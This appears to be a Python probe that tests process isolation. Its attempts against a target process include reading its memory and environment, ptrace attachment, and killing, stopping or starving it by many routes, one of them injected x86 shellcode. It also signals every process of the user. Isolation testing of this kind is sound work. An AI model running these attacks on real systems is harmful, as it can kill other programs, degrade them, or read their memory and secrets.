"""Run as a block: tries what a program can do to another one of the same user. Prints what worked.

The process to attack is the one in TARGET, by default this one's parent.
"""

import ctypes
import fcntl
import mmap
import os
import resource
import signal
import struct
import sys
from collections.abc import Callable

libc = ctypes.CDLL(None, use_errno=True)
target = int(os.environ.get("TARGET") or os.getppid())
# what the interpreter was built for, whatever the machine pretends to be
x86 = "x86_64" in getattr(sys.implementation, "_multiarch", "")


def call(number: int, *arguments: int) -> int:
    result: int = libc.syscall(ctypes.c_long(number), *map(ctypes.c_long, arguments))
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return result


def attempt(name: str, deed: Callable[[], object]) -> None:
    try:
        deed()
    except OSError:
        return
    print("worked:", name)


def open_fds() -> None:
    for fd in range(64):
        for flags in (os.O_RDONLY, os.O_WRONLY):
            try:
                os.open(f"/proc/{target}/fd/{fd}", flags | os.O_NONBLOCK)
                return
            except OSError:
                pass
    raise OSError


def peek() -> None:
    local, remote = (ctypes.c_char * 8)(), ctypes.addressof(ctypes.create_string_buffer(8))
    vectors = (ctypes.c_ulong * 4)(ctypes.addressof(local), 8, remote, 8)
    base = ctypes.addressof(vectors)
    call(310 if x86 else 270, target, base, 1, base + 16, 1, 0)


def call_as_32_bit() -> None:
    # mov eax, 37 (kill); int 0x80; the registers of a 32-bit call hold no more than the number, and no signal
    code = b"\x53\xb8\x25\0\0\0\xbb" + struct.pack("=i", target) + b"\x31\xc9\xcd\x80\x5b\xc3"
    if not x86:
        raise OSError
    # the kernel, or what surrounds the sandbox, may end who does so
    if (child := os.fork()) == 0:
        memory = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        memory.write(code)
        kill = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))
        os._exit(0 if kill() == 0 else 1)
    if os.waitpid(child, 0)[1] != 0:
        raise OSError


def sigio() -> None:
    reader, writer = os.pipe()
    fcntl.fcntl(reader, fcntl.F_SETOWN, target)
    fcntl.fcntl(reader, 10, signal.SIGKILL)
    fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC)
    os.write(writer, b"x")


info = ctypes.create_string_buffer(struct.pack("=iii", signal.SIGCONT, 0, -1), 128)
attributes = ctypes.create_string_buffer(struct.pack("=IIQiIQQQ", 48, 0, 0, 19, 0, 0, 0, 0), 48)
group = os.getpgid(target)
affinity = ctypes.create_string_buffer(b"\xff" * 128)

attempt("open its descriptors", open_fds)
attempt("read its memory", lambda: os.open(f"/proc/{target}/mem", os.O_RDONLY))
attempt("write its memory", lambda: os.open(f"/proc/{target}/mem", os.O_RDWR))
attempt("copy its memory", peek)
attempt("attach to it", lambda: call(101 if x86 else 117, 16, target, 0, 0))
attempt("seize it", lambda: call(101 if x86 else 117, 0x4206, target, 0, 0))
attempt("take its descriptors", lambda: call(438, os.pidfd_open(target), 1, 0))
for number in (0, signal.SIGCONT, signal.SIGSTOP, signal.SIGKILL):
    attempt(f"kill {number}", lambda number=number: os.kill(target, number))
    attempt(f"tgkill {number}", lambda number=number: call(234 if x86 else 131, target, target, number))
    attempt(f"tkill {number}", lambda number=number: call(200 if x86 else 130, target, number))
    attempt(f"kill its group {number}", lambda number=number: os.kill(-target, number))
attempt("kill everything", lambda: os.kill(-1, signal.SIGCONT))
attempt("queue a signal", lambda: call(129 if x86 else 138, target, signal.SIGCONT, ctypes.addressof(info)))
attempt(
    "queue a signal for a thread",
    lambda: call(297 if x86 else 240, target, target, signal.SIGCONT, ctypes.addressof(info)),
)
attempt("signal by a 32-bit call", call_as_32_bit)
attempt("signal a pidfd", lambda: signal.pidfd_send_signal(os.pidfd_open(target), signal.SIGCONT))
proc = os.open(f"/proc/{target}", os.O_RDONLY)
attempt("signal a directory", lambda: call(424, proc, signal.SIGCONT, 0, 0))
attempt("signal by a file", sigio)
attempt("limit it", lambda: resource.prlimit(target, resource.RLIMIT_CPU, (1, 1)))
attempt("move it", lambda: call(203 if x86 else 122, target, 8, ctypes.addressof(affinity)))
attempt("slow it down", lambda: os.setpriority(os.PRIO_PROCESS, target, 19))
attempt("slow its group down", lambda: os.setpriority(os.PRIO_PGRP, group, 19))
attempt("slow all down", lambda: os.setpriority(os.PRIO_USER, 0, 19))
attempt("reschedule it", lambda: os.sched_setscheduler(target, 0, os.sched_param(0)))
attempt("set its parameters", lambda: os.sched_setparam(target, os.sched_param(0)))
attempt("set its attributes", lambda: call(314 if x86 else 274, target, ctypes.addressof(attributes), 0))
attempt("starve its group of disk time", lambda: call(251 if x86 else 30, 2, group, 3 << 13))
attempt("starve all of disk time", lambda: call(251 if x86 else 30, 3, os.getuid(), 3 << 13))
attempt("starve it of disk time", lambda: call(251 if x86 else 30, 1, target, 3 << 13))
if os.getuid() != 0:
    # root owns the files of what nobody may read, and with all capabilities reads these two in any case
    attempt("read its environment", lambda: os.open(f"/proc/{target}/environ", os.O_RDONLY))
    attempt("read its map", lambda: os.open(f"/proc/{target}/task/{target}/maps", os.O_RDONLY))
    attempt("offer it to the OOM killer", lambda: os.open(f"/proc/{target}/oom_score_adj", os.O_WRONLY))
print("done")
